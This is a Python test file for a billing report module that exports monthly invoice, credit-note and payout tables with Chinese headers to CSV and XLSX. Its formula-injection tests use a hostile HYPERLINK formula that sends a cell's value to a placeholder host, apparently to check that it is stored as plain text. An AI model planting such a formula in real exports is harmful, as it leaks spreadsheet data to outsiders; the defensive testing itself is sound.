"""Reports as tables: Chinese headers, a totals row summing every money column, CSV and XLSX writers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from billing.reports.formats import to_csv, to_xlsx
from billing.reports.table import month_table

REPORT = {"month": "2022-10", "ruleset": "zhoushan-putuo-2022", "ruleset_version": "1",
          "invoices": [{"number": "INV-2022-000004", "kind": "invoice", "service_month": "2022-10", "family": "FAM1",
                        "child": "K1", "facility": "F1", "enrollment": "E1", "corrects": None, "fee": "2000.00",
                        "reduction": "0.00", "due": "2000.00"},
                       {"number": "INV-2022-000005", "kind": "invoice", "service_month": "2022-09", "family": "FAM2",
                        "child": "K3", "facility": "F1", "enrollment": "E3", "corrects": "INV-2022-000003",
                        "fee": "400.00", "reduction": "0.00", "due": "400.00"}],
          "credit_notes": [{"number": "CN-2022-000001", "kind": "credit_note", "service_month": "2022-09",
                            "family": "FAM1", "child": "K2", "facility": "F1", "enrollment": "E2",
                            "corrects": "INV-2022-000002", "fee": "-1000.00", "reduction": "-300.00", "due": "-700.00"}],
          "payouts": [{"number": "PAY-2022-000002", "facility": "F1", "status": "issued", "operating_subsidy": "240.00",
                       "reduction_compensation": "0.00", "construction_grants": "0.00", "adjustments": "-372.00",
                       "released": "0.00", "total": "-132.00"}],
          "totals": {"fees": "2400.00", "family_due": "2400.00", "credit_notes": "-700.00"}}


def test_one_row_per_document_kinds_in_words_and_a_totals_row():
    table = month_table(REPORT)
    assert [r["kind"] for r in table.rows] == ["发票", "补充发票", "红字发票（退费）", "拨付单"]
    totals = table.totals()
    assert (totals["kind"], totals["fee"], totals["due"], totals["total"]) == ("合计", 140000, 170000, -13200)


def test_csv_has_a_bom_chinese_headers_and_decimal_money():
    lines = to_csv(month_table(REPORT)).decode("utf-8").splitlines()
    assert lines[0].startswith("\ufeff单据类型,单据编号")
    assert lines[-1].startswith("合计,") and ",1400.00,-300.00,1700.00," in lines[-1]


def test_xlsx_money_cells_are_numbers_shown_with_two_decimals():
    book = load_workbook(io.BytesIO(to_xlsx(month_table(REPORT))))
    sheet = book["报表"]
    header = [c.value for c in sheet[2]]
    due = sheet.cell(row=5, column=header.index("家庭应付") + 1)
    assert Decimal(str(due.value)) == Decimal("-700") and due.number_format == "0.00"
    assert sheet.cell(row=sheet.max_row, column=1).value == "合计"
    assert [r[0].value for r in book["汇总"].iter_rows(min_row=2)] == ["保育费", "家庭应付", "红字发票（退费）"]


HOSTILE_NAME = '=HYPERLINK("http://x.example/?a="&C2,"click")'


def _with_facility(name: str) -> dict:
    report = {**REPORT, "invoices": [{**REPORT["invoices"][0], "facility": name}]}
    return report


def test_a_csv_cell_that_would_start_a_formula_is_written_as_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        text = to_csv(month_table(_with_facility(start + "1+1"))).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows[1][3] == "'" + start + "1+1"


def test_negative_amounts_stay_numbers_in_csv():
    rows = list(csv.reader(io.StringIO(to_csv(month_table(REPORT)).decode("utf-8-sig"), newline="")))
    credit_note = rows[3]
    assert credit_note[9:12] == ["-1000.00", "-300.00", "-700.00"]


def test_an_xlsx_cell_that_would_start_a_formula_is_stored_as_a_string_not_a_formula():
    data = to_xlsx(month_table(_with_facility(HOSTILE_NAME)))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, "the name must be stored as a string, not a formula"
    cell = load_workbook(io.BytesIO(data)).active["D3"]
    assert cell.value == HOSTILE_NAME and cell.data_type == "s"


def test_a_blocked_facility_is_a_row_with_its_reason_and_counts_in_no_total():
    reason = "enrollment E3: a monthly fee must be between 0.00 and 99999999.99 CNY"
    report = {**REPORT, "blocked": [{"service_month": "2022-09", "facility": "F2", "reason": reason}]}
    table = month_table(report)
    assert [(r["kind"], r["service_month"], r["facility"], r["reason"]) for r in table.rows[-1:]] == [
        ("暂缓开具", "2022-09", "F2", reason)]
    assert table.totals() == month_table(REPORT).totals()
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows[0][-1] == "暂缓原因" and rows[-2][0] == "暂缓开具" and rows[-2][-1] == reason
